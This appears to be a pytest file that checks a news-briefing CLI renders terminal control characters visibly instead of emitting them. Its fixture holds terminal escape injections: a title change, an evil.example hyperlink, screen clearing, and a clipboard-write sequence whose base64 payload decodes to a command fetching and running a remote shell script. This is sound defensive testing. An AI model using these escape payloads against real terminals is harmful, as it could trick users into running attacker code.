"""``briefing analyze`` prints no control character of an article or a file name."""

from __future__ import annotations

import json
import re
from pathlib import Path

from briefing_runner import RunBriefing, assert_one_line_error

from briefing_tui.contract import contract_problems

#: C0 controls but newline, DEL and C1 controls: what a terminal may obey.
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")
HOSTILE = (
    "Mayor \x1b]0;pwned\x07 closes bridge\n"
    "The council voted on Tuesday to close the bridge, the mayor said \x1b]52;c;"
    "Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07 on Tuesday.\n"
    '"We will reopen it \x1b]8;;https://evil.example/\x1b\\soon\x1b]8;;\x1b\\," said Mayor'
    " Ana Lopez \x1b[2J\x1b[?1049l of the \x9b31mcity\x1b council.\x07 Repairs cost \x7fmuch.\n"
)


def write_hostile(tmp_path: Path) -> Path:
    path = tmp_path / "hostile.txt"
    path.write_text(HOSTILE, encoding="utf-8")
    return path


def test_markdown_output_has_no_control_character(
    run_briefing: RunBriefing, tmp_path: Path
) -> None:
    done = run_briefing("analyze", "--markdown", str(write_hostile(tmp_path)))
    assert done.returncode == 0, done.stderr
    assert not CONTROL.search(done.stdout), repr(done.stdout)
    assert "␛]52;c;" in done.stdout or "␛]0;pwned␇" in done.stdout


def test_json_output_is_escaped_and_keeps_the_contract(
    run_briefing: RunBriefing, tmp_path: Path
) -> None:
    done = run_briefing("analyze", "--json", str(write_hostile(tmp_path)))
    assert done.returncode == 0, done.stderr
    assert not CONTROL.search(done.stdout), repr(done.stdout)
    data = json.loads(done.stdout)
    assert contract_problems(data) == []
    assert "␛]52;c;" in data["article"]["text"]
    assert not CONTROL.search(data["article"]["text"].replace("\n", ""))


def test_error_names_a_file_with_an_escape_visibly(
    run_briefing: RunBriefing, tmp_path: Path
) -> None:
    done = run_briefing("analyze", str(tmp_path / "evil\x1b]0;pwned\x07.txt"))
    assert done.returncode == 1
    assert_one_line_error(done.stderr, "evil␛]0;pwned␇.txt: no such file")
    assert not CONTROL.search(done.stderr)


def test_usage_error_shows_an_escape_visibly(run_briefing: RunBriefing) -> None:
    done = run_briefing("analyze", "--jobs", "\x1b]0;pwned\x07")
    assert done.returncode == 2
    assert not CONTROL.search(done.stderr), repr(done.stderr)
